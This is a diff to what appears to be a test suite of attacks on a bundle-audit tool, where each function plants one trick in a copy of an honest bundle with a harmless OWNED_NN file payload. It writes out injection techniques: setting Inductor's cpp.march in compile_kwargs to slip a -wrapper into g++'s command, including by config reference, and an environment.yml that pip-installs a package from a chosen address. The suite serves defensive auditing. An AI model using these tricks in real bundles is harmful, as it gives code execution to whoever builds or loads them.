@@ -1,8 +1,8 @@
-"""Attacks written without sight of the audit: each function plants one trick in a fresh copy of an honest bundle.
+"""Attacks written with the verdicts of the audit at hand, but not its source: each plants one trick in a fresh bundle.
 
 A function takes the bundle's folder and returns what is to be audited, the folder or a zip made of it. A payload does
-no more than make, overwrite or remove files named OWNED_NN beside the bundle's folder. VERBS says what a victim would
-run in the folder for the payload to fire.
+no more than make, overwrite or remove files named OWNED_NN beside the bundle's folder; 06 and 09 also put a module into
+the folder itself. VERBS says what a victim would run in the folder, where it is not INFER.
 """
 
 from __future__ import annotations
@@ -66,7 +66,7 @@ def _compile_kwargs(bundle: Path, number: str) -> dict:
 
 
 def attack_03_compiler_flags_of_the_evaluator(bundle: Path) -> Path:
-    """compile_kwargs of SupervisedEvaluator give Inductor's cpp.march, which adds -wrapper to g++'s command line."""
+    """compile_kwargs of SupervisedEvaluator set Inductor's cpp.march, which adds -wrapper to the call of g++."""
     _edit(bundle, lambda c: c["evaluator"].update(compile=True, compile_kwargs=_compile_kwargs(bundle, "03")))
     return bundle
 
@@ -246,6 +246,17 @@ def attack_20_package_of_an_environment(bundle: Path) -> Path:
     """environment.yml has pip install a package from an address of the config's choice."""
     text = "name: bundle\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n      - http://127.0.0.1:9/package.zip\n"
     (bundle / "environment.yml").write_text(text, encoding="utf-8")
+    return bundle
+
+
+def attack_21_compiler_flags_by_reference(bundle: Path) -> Path:
+    """compile_kwargs is a reference to a dictionary elsewhere in the config, which has Inductor's cpp.march."""
+
+    def change(config: dict) -> None:
+        config["speed"] = _compile_kwargs(bundle, "21")
+        config["evaluator"].update(compile=True, compile_kwargs="@speed")
+
+    _edit(bundle, change)
     return bundle
 
 
